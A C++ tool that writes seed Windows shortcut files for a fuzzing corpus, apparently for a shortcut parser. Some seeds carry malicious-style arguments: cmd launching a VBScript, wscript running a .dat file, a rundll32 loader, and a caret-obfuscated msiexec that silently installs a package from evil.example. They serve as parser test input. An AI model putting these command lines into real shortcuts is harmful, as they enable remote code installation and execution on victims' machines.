// Writes the fuzz target's seed shortcuts (tests/fuzz/corpus/shell_link) from the test images:
//   tollivar_link_corpus <folder>
#include <cstdio>
#include <fstream>
#include <string>
#include <utility>
#include <vector>

#include "shell_link_images.h"

using tollivar::test::LinkImage;
using tollivar::test::PathItems;

int main(int argc, char** argv) {
    if (argc != 2) {
        std::fprintf(stderr, "usage: %s <folder>\n", argv[0]);
        return 2;
    }
    const std::string cmd = "C:\\Windows\\System32\\cmd.exe";
    const std::vector<std::pair<const char*, LinkImage>> images = {
        {"cmd_start_explorer.lnk", LinkImage()
                                       .Items(PathItems(cmd))
                                       .LocalPath(cmd, "", true)
                                       .Arguments("/c start x.vbs & start explorer \"\xc2\xa0\" & exit")
                                       .Icon("%SystemRoot%\\system32\\shell32.dll")
                                       .Environment("%windir%\\system32\\cmd.exe")},
        {"wscript_dat.lnk", LinkImage()
                                .Environment("%windir%\\system32\\wscript.exe")
                                .Arguments("//e:vbscript x.dat")
                                .WorkingDir("E:\\")},
        {"rundll32_entry.lnk", LinkImage()
                                   .Unicode(false)
                                   .LocalPath("C:\\Windows\\system32\\rundll32.exe")
                                   .Arguments("~$WQ.FAT32,_ldr@16 desktop")},
        {"cmd_msiexec_carets.lnk", LinkImage()
                                       .Items(PathItems(cmd))
                                       .Arguments("/c \"m^s^i^e^x^e^c /q /i h^t^t^p://evil.example/p.msi\"")},
        {"id_list_unicode.lnk",
         LinkImage()
             .Items(PathItems(
                 "E:\\\xe7\x85\xa7\xe7\x89\x87\\\xd0\xa4\xd0\xbe\xd1\x82\xd0\xbe\\\xf0\x9f\x98\x80.exe"))
             .RelativePath(".\\\xf0\x9f\x98\x80.exe")},
        {"document.lnk", LinkImage()
                             .LocalPath("C:\\Docs", "report.docx")
                             .Name("Report")
                             .WorkingDir("C:\\Docs")
                             .ForceNoLinkInfo()},
    };
    for (const auto& [name, image] : images) {
        std::ofstream out(std::string(argv[1]) + "/" + name, std::ios::binary);
        const std::string bytes = image.Build();
        out.write(bytes.data(), static_cast<std::streamsize>(bytes.size()));
        if (!out) return 1;
    }
    return 0;
}
